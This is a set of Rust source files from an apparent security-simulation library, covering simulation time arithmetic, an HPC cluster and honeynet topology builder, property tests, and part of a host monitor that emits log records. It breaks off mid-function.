    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimTime(u64);

/// A span of simulation time, in nanoseconds.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimDuration(u64);

/// A Gregorian calendar date.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct CivilDate {
    pub year: i32,
    pub month: u32,
    pub day: u32,
}

impl SimTime {
    /// The simulation epoch: 2000-01-01 00:00:00 UTC.
    pub const EPOCH: SimTime = SimTime(0);

    /// Construct from raw nanoseconds since the simulation epoch.
    pub const fn from_nanos(nanos: u64) -> Self {
        SimTime(nanos)
    }

    /// Construct from whole seconds since the simulation epoch.
    pub const fn from_secs(secs: u64) -> Self {
        SimTime(secs * NANOS_PER_SEC)
    }

    /// Construct from a calendar date at midnight UTC.
    ///
    /// # Panics
    /// Panics if the date precedes the simulation epoch (year 2000).
    pub fn from_date(year: i32, month: u32, day: u32) -> Self {
        let days = days_from_civil(year, month, day) - EPOCH_2000_DAYS;
        assert!(
            days >= 0,
            "date {year}-{month:02}-{day:02} precedes the 2000-01-01 epoch"
        );
        SimTime(days as u64 * NANOS_PER_DAY)
    }

    /// Construct from a calendar date and a time of day.
    pub fn from_datetime(year: i32, month: u32, day: u32, h: u32, m: u32, s: u32) -> Self {
        Self::from_date(year, month, day)
            + SimDuration::from_secs((h as u64 * 60 + m as u64) * 60 + s as u64)
    }

    /// Nanoseconds since the simulation epoch.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// Whole seconds since the simulation epoch.
    pub const fn as_secs(self) -> u64 {
        self.0 / NANOS_PER_SEC
    }

    /// Whole days since the simulation epoch. Useful for daily bucketing
    /// (Fig. 2 reproduces a per-day alert count series).
    pub const fn day_index(self) -> u64 {
        self.0 / NANOS_PER_DAY
    }

    /// The calendar date containing this instant.
    pub fn date(self) -> CivilDate {
        let days = self.day_index() as i64 + EPOCH_2000_DAYS;
        let (year, month, day) = civil_from_days(days);
        CivilDate { year, month, day }
    }

    /// `(hour, minute, second)` within the day.
    pub fn time_of_day(self) -> (u32, u32, u32) {
        let secs = (self.0 % NANOS_PER_DAY) / NANOS_PER_SEC;
        (
            (secs / 3600) as u32,
            ((secs / 60) % 60) as u32,
            (secs % 60) as u32,
        )
    }

    /// Saturating difference between two instants.
    pub fn saturating_since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// Checked addition.
    pub fn checked_add(self, d: SimDuration) -> Option<SimTime> {
        self.0.checked_add(d.0).map(SimTime)
    }

    /// Saturating addition: clamps at the end of representable time
    /// instead of wrapping. Extreme-dilation scenario generators use this
    /// so a pathological delay product degrades to "very far future"
    /// rather than a time warp.
    pub fn saturating_add(self, d: SimDuration) -> SimTime {
        SimTime(self.0.saturating_add(d.0))
    }

    /// Saturating subtraction: clamps at the epoch (time zero) instead of
    /// underflowing. Negative clock skew applied near the start of a
    /// simulation must pin records at the epoch rather than wrap them to
    /// the far future.
    pub fn saturating_sub(self, d: SimDuration) -> SimTime {
        SimTime(self.0.saturating_sub(d.0))
    }
}

impl SimDuration {
    pub const ZERO: SimDuration = SimDuration(0);

    pub const fn from_nanos(nanos: u64) -> Self {
        SimDuration(nanos)
    }
    pub const fn from_micros(micros: u64) -> Self {
        SimDuration(micros * 1_000)
    }
    pub const fn from_millis(millis: u64) -> Self {
        SimDuration(millis * 1_000_000)
    }
    pub const fn from_secs(secs: u64) -> Self {
        SimDuration(secs * NANOS_PER_SEC)
    }
    pub const fn from_mins(mins: u64) -> Self {
        SimDuration(mins * 60 * NANOS_PER_SEC)
    }
    pub const fn from_hours(hours: u64) -> Self {
        SimDuration(hours * 3_600 * NANOS_PER_SEC)
    }
    pub const fn from_days(days: u64) -> Self {
        SimDuration(days * NANOS_PER_DAY)
    }

    /// Construct from a fractional number of seconds (clamped at zero).
    pub fn from_secs_f64(secs: f64) -> Self {
        SimDuration((secs.max(0.0) * NANOS_PER_SEC as f64) as u64)
    }

    pub const fn as_nanos(self) -> u64 {
        self.0
    }
    pub const fn as_secs(self) -> u64 {
        self.0 / NANOS_PER_SEC
    }
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / NANOS_PER_SEC as f64
    }
    /// Whole days contained in this span.
    pub const fn as_days(self) -> u64 {
        self.0 / NANOS_PER_DAY
    }

    /// Scale by a non-negative factor.
    pub fn mul_f64(self, k: f64) -> Self {
        SimDuration((self.0 as f64 * k.max(0.0)) as u64)
    }

    pub fn saturating_sub(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_sub(other.0))
    }

    /// Saturating addition: clamps at `u64::MAX` nanoseconds instead of
    /// wrapping (the `Add` impl panics in debug and wraps in release).
    pub fn saturating_add(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_add(other.0))
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.0)
    }
}

impl AddAssign<SimDuration> for SimTime {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl Sub<SimTime> for SimTime {
    type Output = SimDuration;
    fn sub(self, rhs: SimTime) -> SimDuration {
        SimDuration(self.0 - rhs.0)
    }
}

impl Add<SimDuration> for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl AddAssign<SimDuration> for SimDuration {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let d = self.date();
        let (h, m, s) = self.time_of_day();
        write!(
            f,
            "{:04}-{:02}-{:02} {:02}:{:02}:{:02}",
            d.year, d.month, d.day, h, m, s
        )
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let secs = self.as_secs_f64();
        if secs >= 86_400.0 {
            write!(f, "{:.1}d", secs / 86_400.0)
        } else if secs >= 3_600.0 {
            write!(f, "{:.1}h", secs / 3_600.0)
        } else if secs >= 60.0 {
            write!(f, "{:.1}m", secs / 60.0)
        } else {
            write!(f, "{:.3}s", secs)
        }
    }
}

impl fmt::Display for CivilDate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

impl CivilDate {
    /// Month name abbreviation, as used in Fig. 2's x-axis labels.
    pub fn month_abbrev(&self) -> &'static str {
        const NAMES: [&str; 12] = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ];
        NAMES[(self.month - 1) as usize]
    }
}

/// Days since 1970-01-01 for a Gregorian `(y, m, d)`.
fn days_from_civil(y: i32, m: u32, d: u32) -> i64 {
    debug_assert!((1..=12).contains(&m), "month out of range: {m}");
    debug_assert!((1..=31).contains(&d), "day out of range: {d}");
    let y = y as i64 - (m <= 2) as i64;
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = (y - era * 400) as u64;
    let mp = if m > 2 { m - 3 } else { m + 9 } as u64;
    let doy = (153 * mp + 2) / 5 + d as u64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe as i64 - 719_468
}

/// Gregorian `(y, m, d)` for days since 1970-01-01.
fn civil_from_days(z: i64) -> (i32, u32, u32) {
    let z = z + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = (z - era * 146_097) as u64;
    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe as i64 + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    ((y + (m <= 2) as i64) as i32, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_is_jan_1_2000() {
        let d = SimTime::EPOCH.date();
        assert_eq!((d.year, d.month, d.day), (2000, 1, 1));
    }

    #[test]
    fn date_roundtrip_across_leap_years() {
        for &(y, m, d) in &[
            (2000, 2, 29),
            (2004, 2, 29),
            (2014, 4, 1),
            (2024, 8, 1),
            (2024, 10, 30),
            (2024, 11, 10),
            (2023, 12, 31),
        ] {
            let t = SimTime::from_date(y, m, d);
            let back = t.date();
            assert_eq!((back.year, back.month, back.day), (y, m, d));
        }
    }

    #[test]
    fn day_index_increments_per_day() {
        let a = SimTime::from_date(2024, 8, 1);
        let b = SimTime::from_date(2024, 8, 2);
        assert_eq!(b.day_index(), a.day_index() + 1);
    }

    #[test]
    fn time_of_day_extraction() {
        let t = SimTime::from_datetime(2024, 10, 30, 23, 15, 22);
        assert_eq!(t.time_of_day(), (23, 15, 22));
        assert_eq!(t.to_string(), "2024-10-30 23:15:22");
    }

    #[test]
    fn duration_arithmetic() {
        let t = SimTime::from_date(2024, 10, 30);
        let later = t + SimDuration::from_days(12);
        let d = later.date();
        assert_eq!((d.year, d.month, d.day), (2024, 11, 11));
        assert_eq!((later - t).as_days(), 12);
    }

    #[test]
    fn saturating_since_on_earlier_time() {
        let a = SimTime::from_secs(5);
        let b = SimTime::from_secs(10);
        assert_eq!(a.saturating_since(b), SimDuration::ZERO);
        assert_eq!(b.saturating_since(a).as_secs(), 5);
    }

    #[test]
    fn saturating_sub_pins_at_epoch() {
        let t = SimTime::from_secs(5);
        assert_eq!(
            t.saturating_sub(SimDuration::from_secs(3)),
            SimTime::from_secs(2)
        );
        assert_eq!(t.saturating_sub(SimDuration::from_secs(5)), SimTime::EPOCH);
        assert_eq!(t.saturating_sub(SimDuration::from_hours(1)), SimTime::EPOCH);
        assert_eq!(
            SimTime::EPOCH.saturating_sub(SimDuration::from_nanos(1)),
            SimTime::EPOCH
        );
    }

    #[test]
    fn display_duration_units() {
        assert_eq!(SimDuration::from_secs(5).to_string(), "5.000s");
        assert_eq!(SimDuration::from_mins(90).to_string(), "1.5h");
        assert_eq!(SimDuration::from_days(3).to_string(), "3.0d");
    }

    #[test]
    fn civil_days_known_values() {
        // 1970-01-01 is day 0; 2000-01-01 is day 10957.
        assert_eq!(days_from_civil(1970, 1, 1), 0);
        assert_eq!(days_from_civil(2000, 1, 1), 10_957);
        assert_eq!(civil_from_days(10_957), (2000, 1, 1));
    }
}
