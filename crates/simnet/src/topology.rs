//! Cluster and network topology.
//!
//! Models the environment of §III–§IV: an open-networked HPC center with
//! login nodes, compute nodes, storage, a honeynet segment carved out of the
//! production /16, and the external Internet. Hosts are cheap handles
//! (`HostId`) into a flat arena; the scenario generators and the honeynet
//! deployment both build on this.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::addr::Cidr;
use crate::rng::FxHashMap;

/// Index of a host in a [`Topology`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct HostId(pub u32);

impl fmt::Display for HostId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "h{}", self.0)
    }
}

/// Security zone a subnet belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Zone {
    /// Production internal network (the /16).
    Internal,
    /// The honeynet segment embedded in production (§IV-C).
    Honeynet,
    /// Out-of-band management/monitoring network.
    Management,
    /// The public Internet.
    External,
}

/// Functional role of a host.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum HostRole {
    /// SSH login node users enter through.
    Login,
    /// Batch compute node.
    Compute,
    /// Shared storage server.
    Storage,
    /// Database server (e.g. the PostgreSQL honeypot target).
    Database,
    /// Honeynet entry-point VM forwarding traffic into containers.
    EntryPoint,
    /// Security monitor (Zeek cluster member, log collector).
    Monitor,
    /// Staff workstation.
    Workstation,
    /// A host on the public Internet.
    External,
}

/// A host (physical node, VM, or container endpoint).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Host {
    pub id: HostId,
    pub name: String,
    pub addr: Ipv4Addr,
    pub zone: Zone,
    pub role: HostRole,
    /// Whether a kernel-level host monitor (osquery-like) runs here.
    pub monitored: bool,
}

/// A named subnet.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Subnet {
    pub name: String,
    pub cidr: Cidr,
    pub zone: Zone,
}

/// The full topology: subnets plus a host arena with an address index.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Topology {
    hosts: Vec<Host>,
    subnets: Vec<Subnet>,
    #[serde(skip)]
    by_addr: FxHashMap<Ipv4Addr, HostId>,
}

impl Topology {
    pub fn new() -> Self {
        Self::default()
    }

    /// Register a subnet. Returns its index.
    pub fn add_subnet(&mut self, name: impl Into<String>, cidr: Cidr, zone: Zone) -> usize {
        self.subnets.push(Subnet {
            name: name.into(),
            cidr,
            zone,
        });
        self.subnets.len() - 1
    }

    /// Register a host.
    ///
    /// # Panics
    /// Panics if the address is already taken.
    pub fn add_host(
        &mut self,
        name: impl Into<String>,
        addr: Ipv4Addr,
        zone: Zone,
        role: HostRole,
    ) -> HostId {
        assert!(
            !self.by_addr.contains_key(&addr),
            "duplicate host address {addr}"
        );
        let id = HostId(self.hosts.len() as u32);
        let monitored = !matches!(zone, Zone::External);
        self.hosts.push(Host {
            id,
            name: name.into(),
            addr,
            zone,
            role,
            monitored,
        });
        self.by_addr.insert(addr, id);
        id
    }

    /// Convenience: register an external (Internet) host.
    pub fn add_external(&mut self, name: impl Into<String>, addr: Ipv4Addr) -> HostId {
        self.add_host(name, addr, Zone::External, HostRole::External)
    }

    pub fn host(&self, id: HostId) -> &Host {
        &self.hosts[id.0 as usize]
    }

    pub fn host_mut(&mut self, id: HostId) -> &mut Host {
        &mut self.hosts[id.0 as usize]
    }

    /// Look up a host by address.
    pub fn host_by_addr(&self, addr: Ipv4Addr) -> Option<&Host> {
        self.by_addr.get(&addr).map(|id| self.host(*id))
    }

    pub fn hosts(&self) -> &[Host] {
        &self.hosts
    }

    pub fn subnets(&self) -> &[Subnet] {
        &self.subnets
    }

    pub fn len(&self) -> usize {
        self.hosts.len()
    }

    pub fn is_empty(&self) -> bool {
        self.hosts.is_empty()
    }

    /// The zone an arbitrary address falls in: the zone of the first subnet
    /// containing it, else `External`.
    pub fn zone_of_addr(&self, addr: Ipv4Addr) -> Zone {
        // Most-specific (longest-prefix) subnet wins, so the honeynet /24
        // inside the production /16 classifies correctly.
        self.subnets
            .iter()
            .filter(|s| s.cidr.contains(addr))
            .max_by_key(|s| s.cidr.prefix())
            .map(|s| s.zone)
            .unwrap_or(Zone::External)
    }

    /// Iterate hosts with a given role.
    pub fn hosts_with_role(&self, role: HostRole) -> impl Iterator<Item = &Host> {
        self.hosts.iter().filter(move |h| h.role == role)
    }

    /// Rebuild the address index (needed after deserialization).
    pub fn rebuild_index(&mut self) {
        self.by_addr = self.hosts.iter().map(|h| (h.addr, h.id)).collect();
    }
}

/// Builder producing an NCSA-like topology: production /16 with login,
/// compute, storage and database nodes, a honeynet /24, a management net,
/// and a pool of external hosts.
#[derive(Debug, Clone)]
pub struct NcsaTopologyBuilder {
    pub production: Cidr,
    pub honeynet_octet: u64,
    pub login_nodes: u32,
    pub compute_nodes: u32,
    pub storage_nodes: u32,
    pub database_nodes: u32,
    pub workstations: u32,
}

impl Default for NcsaTopologyBuilder {
    fn default() -> Self {
        NcsaTopologyBuilder {
            production: crate::addr::ncsa_production(),
            honeynet_octet: 77,
            login_nodes: 4,
            compute_nodes: 64,
            storage_nodes: 8,
            database_nodes: 4,
            workstations: 16,
        }
    }
}

impl NcsaTopologyBuilder {
    /// Materialize the topology. Host addressing is deterministic:
    /// `.1.x` login, `.2.x` compute (wrapping to further /24s), `.3.x`
    /// storage, `.4.x` databases, `.5.x` workstations, honeynet on its own
    /// /24.
    pub fn build(&self) -> Topology {
        let mut topo = Topology::new();
        topo.add_subnet("production", self.production, Zone::Internal);
        let honeynet = self.production.subblock(self.honeynet_octet, 24);
        topo.add_subnet("honeynet", honeynet, Zone::Honeynet);
        let mgmt: Cidr = "192.168.100.0/24".parse().expect("static CIDR");
        topo.add_subnet("management", mgmt, Zone::Management);

        // 253 usable hosts per /24 slice; overflow rolls into the next
        // third octet.
        let add_range = |topo: &mut Topology, octet3: u64, count: u32, prefix: &str, role| {
            for i in 0..count {
                let sub = self.production.subblock(octet3 + (i / 253) as u64, 24);
                let addr = sub.nth((i % 253) as u64 + 1);
                topo.add_host(format!("{prefix}{:02}", i + 1), addr, Zone::Internal, role);
            }
        };
        add_range(&mut topo, 1, self.login_nodes, "login", HostRole::Login);
        add_range(&mut topo, 2, self.compute_nodes, "cn", HostRole::Compute);
        add_range(
            &mut topo,
            10,
            self.storage_nodes,
            "store",
            HostRole::Storage,
        );
        add_range(&mut topo, 11, self.database_nodes, "db", HostRole::Database);
        add_range(
            &mut topo,
            12,
            self.workstations,
            "ws",
            HostRole::Workstation,
        );

        // Zeek cluster / collector on the management net.
        topo.add_host("zeek-mgr", mgmt.nth(2), Zone::Management, HostRole::Monitor);
        topo.add_host(
            "log-collector",
            mgmt.nth(3),
            Zone::Management,
            HostRole::Monitor,
        );
        topo
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_produces_expected_counts() {
        let b = NcsaTopologyBuilder::default();
        let t = b.build();
        let logins = t.hosts_with_role(HostRole::Login).count();
        let computes = t.hosts_with_role(HostRole::Compute).count();
        assert_eq!(logins, 4);
        assert_eq!(computes, 64);
        assert_eq!(t.subnets().len(), 3);
    }

    #[test]
    fn zone_of_addr_prefers_most_specific() {
        let t = NcsaTopologyBuilder::default().build();
        // Honeynet /24 sits inside the production /16.
        let hn_addr = crate::addr::ncsa_production().subblock(77, 24).nth(10);
        assert_eq!(t.zone_of_addr(hn_addr), Zone::Honeynet);
        let prod_addr = crate::addr::ncsa_production().subblock(2, 24).nth(10);
        assert_eq!(t.zone_of_addr(prod_addr), Zone::Internal);
        assert_eq!(t.zone_of_addr("8.8.8.8".parse().unwrap()), Zone::External);
    }

    #[test]
    fn duplicate_addr_panics() {
        let mut t = Topology::new();
        let a: Ipv4Addr = "10.0.0.1".parse().unwrap();
        t.add_host("a", a, Zone::Internal, HostRole::Compute);
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            t.add_host("b", a, Zone::Internal, HostRole::Compute);
        }));
        assert!(result.is_err());
    }

    #[test]
    fn host_lookup_by_addr() {
        let t = NcsaTopologyBuilder::default().build();
        let login = t.hosts_with_role(HostRole::Login).next().unwrap();
        assert_eq!(t.host_by_addr(login.addr).unwrap().id, login.id);
    }

    #[test]
    fn external_hosts_unmonitored() {
        let mut t = Topology::new();
        let id = t.add_external("scanner", "103.102.8.9".parse().unwrap());
        assert!(!t.host(id).monitored);
        assert_eq!(t.host(id).zone, Zone::External);
    }

    #[test]
    fn rebuild_index_restores_lookup() {
        let mut t = Topology::new();
        let a: Ipv4Addr = "10.0.0.1".parse().unwrap();
        t.add_host("a", a, Zone::Internal, HostRole::Compute);
        let json = serde_json_roundtrip(&t);
        assert!(json.host_by_addr(a).is_none(), "index not serialized");
        let mut rebuilt = json;
        rebuilt.rebuild_index();
        assert!(rebuilt.host_by_addr(a).is_some());
    }

    fn serde_json_roundtrip(t: &Topology) -> Topology {
        // Manual poor-man's roundtrip via clone with a cleared index, since
        // simnet itself does not depend on serde_json.
        let mut c = t.clone();
        c.by_addr.clear();
        c
    }
}
