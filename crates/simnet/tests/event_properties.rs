//! Property tests for the simulation substrate: event ordering, calendar
//! arithmetic, and RNG distribution sanity.

use proptest::prelude::*;
use simnet::event::EventQueue;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Events pop in non-decreasing time order, and ties preserve
    /// insertion order, no matter the schedule.
    #[test]
    fn queue_is_a_stable_priority_queue(times in proptest::collection::vec(0u64..1_000, 1..200)) {
        let mut q = EventQueue::new();
        for (i, &t) in times.iter().enumerate() {
            q.schedule(SimTime::from_secs(t), (t, i));
        }
        let mut last: Option<(u64, usize)> = None;
        while let Some(ev) = q.pop() {
            let (t, i) = ev.payload;
            prop_assert_eq!(ev.time, SimTime::from_secs(t));
            if let Some((lt, li)) = last {
                prop_assert!(t >= lt, "time order violated");
                if t == lt {
                    prop_assert!(i > li, "stability violated");
                }
            }
            last = Some((t, i));
        }
    }

    /// Calendar round trip: any day offset from the epoch maps to a civil
    /// date that maps back to the same day index.
    #[test]
    fn civil_date_roundtrip(days in 0u64..(60 * 365)) {
        let t = SimTime::EPOCH + SimDuration::from_days(days);
        let d = t.date();
        let back = SimTime::from_date(d.year, d.month, d.day);
        prop_assert_eq!(back.day_index(), t.day_index());
    }

    /// Durations: conversion helpers agree with raw nanosecond math.
    #[test]
    fn duration_unit_conversions(secs in 0u64..1_000_000) {
        prop_assert_eq!(SimDuration::from_secs(secs).as_nanos(), secs * 1_000_000_000);
        prop_assert_eq!(SimDuration::from_secs(secs).as_secs(), secs);
        let m = SimDuration::from_mins(secs % 10_000);
        prop_assert_eq!(m.as_secs(), (secs % 10_000) * 60);
    }

    /// Zipf sampling is within range and rank-0 biased for s > 1.
    #[test]
    fn zipf_in_range(seed in 0u64..1_000, n in 1usize..100) {
        let mut rng = SimRng::seed(seed);
        let z = simnet::rng::Zipf::new(n, 1.2);
        for _ in 0..50 {
            prop_assert!(z.sample(&mut rng) < n);
        }
    }

    /// Weighted index never selects a zero-weight entry when a positive
    /// one exists ahead of it.
    #[test]
    fn weighted_index_skips_zeros(seed in 0u64..1_000) {
        let mut rng = SimRng::seed(seed);
        let weights = [0.0, 3.0, 0.0, 2.0];
        for _ in 0..100 {
            let i = rng.weighted_index(&weights);
            prop_assert!(i == 1 || i == 3, "picked zero-weight index {i}");
        }
    }
}
