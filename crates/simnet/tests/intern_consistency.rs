//! Cross-type consistency of [`simnet::intern::Sym`].
//!
//! The integer-keyed entity maps (PR 4) lean on three invariants holding
//! *simultaneously* across the `Sym`, `&str` and `String` views of the
//! same text — a silent disagreement between any two would corrupt
//! lookups without a panic:
//!
//! 1. `PartialEq` agrees in every direction and with the underlying
//!    strings.
//! 2. `Ord` on `Sym` is exactly `Ord` on the resolved strings (ids are
//!    assigned in intern order, which is *not* lexical order).
//! 3. `Hash`/`Eq` coherence: two `Sym`s hash equal iff their strings are
//!    equal (the id is a bijection onto distinct strings), so `Sym` is a
//!    sound hash key. `Sym`'s hash is the id's hash — NOT the string's —
//!    which is why `Sym` must not implement `Borrow<str>`.

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};

use proptest::prelude::*;
use simnet::intern::Sym;

fn hash_one<T: Hash>(v: &T) -> u64 {
    let mut h = DefaultHasher::new();
    v.hash(&mut h);
    h.finish()
}

/// Strategy strings deliberately collide often (small alphabet, short
/// lengths) so equal and unequal pairs are both well exercised.
fn small_string() -> impl Strategy<Value = String> {
    proptest::collection::vec(0u8..4, 0..5).prop_map(|bytes| {
        bytes
            .into_iter()
            .map(|b| (b'a' + b) as char)
            .collect::<String>()
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn eq_ord_hash_agree_across_views(a in small_string(), b in small_string()) {
        let sa: Sym = a.as_str().into();
        let sb: Sym = b.clone().into();

        // Round-trip: every view resolves to the source text.
        prop_assert_eq!(sa.as_str(), a.as_str());
        prop_assert_eq!(sb.as_str(), b.as_str());

        // PartialEq agreement, all directions and all view pairs.
        let expect_eq = a == b;
        prop_assert_eq!(sa == sb, expect_eq, "Sym == Sym");
        prop_assert_eq!(sa == b.as_str(), expect_eq, "Sym == &str");
        prop_assert_eq!(b.as_str() == sa, expect_eq, "&str == Sym");
        prop_assert_eq!(sa == b, expect_eq, "Sym == String");
        prop_assert_eq!(b == sa, expect_eq, "String == Sym");

        // Ord follows the strings, not the intern-order ids.
        prop_assert_eq!(sa.cmp(&sb), a.as_str().cmp(b.as_str()), "Ord view");
        prop_assert_eq!(
            sa.partial_cmp(&sb),
            a.as_str().partial_cmp(b.as_str()),
            "PartialOrd view"
        );

        // Hash/Eq coherence: same string ⇒ same id ⇒ same hash; distinct
        // strings ⇒ distinct ids (id hashing is injective on the id, so
        // unequal Syms of this table never alias by construction).
        prop_assert_eq!(hash_one(&sa) == hash_one(&sb), expect_eq, "hash/eq");
        prop_assert_eq!(sa.id() == sb.id(), expect_eq, "id bijection");
    }

    /// Sorting mixed-origin `Sym`s equals sorting the strings themselves —
    /// the property integer-keyed report paths rely on when they sort by
    /// symbol.
    #[test]
    fn sym_sort_matches_string_sort(mut texts in proptest::collection::vec(small_string(), 0..12)) {
        let mut syms: Vec<Sym> = texts.iter().map(|s| Sym::new(s)).collect();
        syms.sort();
        texts.sort();
        let resolved: Vec<&str> = syms.iter().map(|s| s.as_str()).collect();
        let expected: Vec<&str> = texts.iter().map(|s| s.as_str()).collect();
        prop_assert_eq!(resolved, expected);
    }
}

/// A `HashMap` keyed by `Sym` and one keyed by `String` stay in lockstep
/// under the same inserts — the map-corruption scenario the proptest
/// exists to rule out, exercised deterministically.
#[test]
fn sym_keyed_map_matches_string_keyed_map() {
    let words = ["alice", "bob", "alice", "", "carol", "bob", "alice"];
    let mut by_sym: std::collections::HashMap<Sym, u32> = std::collections::HashMap::new();
    let mut by_string: std::collections::HashMap<String, u32> = std::collections::HashMap::new();
    for w in words {
        *by_sym.entry(Sym::new(w)).or_insert(0) += 1;
        *by_string.entry(w.to_string()).or_insert(0) += 1;
    }
    assert_eq!(by_sym.len(), by_string.len());
    for (k, v) in &by_string {
        assert_eq!(by_sym.get(&Sym::new(k)), Some(v), "key {k:?} diverged");
    }
}
