//! Host-based monitor (osquery / rsyslog / auditd equivalent).
//!
//! Observes host-side actions on *monitored* hosts and emits process, file,
//! auth, audit and database-statement records. The paper's defender runs
//! osquery "at the kernel level" on production hosts; honeypot containers
//! are instrumented the same way (§IV-A: "commands issued by attackers must
//! be closely monitored by the host and network monitors").

use simnet::action::Action;
use simnet::engine::EventCtx;
use simnet::intern::Sym;
use simnet::topology::HostId;

use crate::monitor::Monitor;
use crate::record::{AuditRecord, AuthRecord, DbRecord, FileRecord, LogRecord, ProcessRecord};

/// The host monitor. One instance covers the whole fleet: per-host agent
/// state is immaterial to the record streams, so modelling a single
/// collector keeps the pipeline simple without changing what downstream
/// stages see.
#[derive(Debug, Default)]
pub struct HostMonitor {
    records_emitted: u64,
    /// Hosts whose agent has been tampered with / disabled (an attacker
    /// with local root may kill one agent; §III-B).
    disabled: Vec<HostId>,
}

impl HostMonitor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Simulate an attacker disabling the agent on one host. Records from
    /// that host stop flowing — but network monitors still see its traffic.
    pub fn disable_on(&mut self, host: HostId) {
        if !self.disabled.contains(&host) {
            self.disabled.push(host);
        }
    }

    pub fn records_emitted(&self) -> u64 {
        self.records_emitted
    }

    fn covered(&self, ctx: &EventCtx<'_>, host: HostId) -> bool {
        !self.disabled.contains(&host) && ctx.topo.host(host).monitored
    }

    fn hostname(ctx: &EventCtx<'_>, host: HostId) -> Sym {
        ctx.topo.host(host).name.as_str().into()
    }
}

impl Monitor for HostMonitor {
    fn name(&self) -> &'static str {
        "hostmon"
    }

    fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>) {
        match action {
            Action::Exec(e) => {
                if self.covered(ctx, e.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::Process(ProcessRecord {
                        ts: ctx.time,
                        host: e.host,
                        hostname: Self::hostname(ctx, e.host),
                        user: e.user.as_str().into(),
                        pid: e.pid,
                        ppid: e.ppid,
                        exe: e.exe.as_str().into(),
                        cmdline: e.cmdline.as_str().into(),
                    }));
                }
            }
            Action::FileOp(f) => {
                if self.covered(ctx, f.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::File(FileRecord {
                        ts: ctx.time,
                        host: f.host,
                        hostname: Self::hostname(ctx, f.host),
                        user: f.user.as_str().into(),
                        path: f.path.as_str().into(),
                        op: f.op,
                        process: f.process.as_str().into(),
                    }));
                }
            }
            Action::Audit(a) => {
                if self.covered(ctx, a.host) {
                    self.records_emitted += 1;
                    out.push(LogRecord::Audit(AuditRecord {
                        ts: ctx.time,
                        host: a.host,
                        hostname: Self::hostname(ctx, a.host),
                        user: a.user.as_str().into(),
                        syscall: a.syscall.as_str().into(),
                        args: a.args.as_str().into(),
                        exit_code: a.exit_code,
                    }));
                }
            }
            Action::SshAuth(s) => {
                // The sshd auth log on the target host.
                if !ctx.delivered() {
                    return;
                }
                if let Some(target) = s.target {
                    if self.covered(ctx, target) {
                        self.records_emitted += 1;
                        out.push(LogRecord::Auth(AuthRecord {
                            ts: ctx.time,
                            host: target,
                            hostname: Self::hostname(ctx, target),
                            user: s.user.as_str().into(),
                            method: s.method,
                            success: s.success,
                            src_addr: Some(s.flow.src),
                        }));
                    }
                }
            }
            Action::Db(d) => {
                // Statement-level audit from the database host itself.
                if !ctx.delivered() {
                    return;
                }
                if let Some(target) = d.target {
                    if self.covered(ctx, target) {
                        self.records_emitted += 1;
                        out.push(LogRecord::Db(DbRecord {
                            ts: ctx.time,
                            uid: d.flow.id,
                            orig_h: d.flow.src,
                            resp_h: d.flow.dst,
                            host: Some(target),
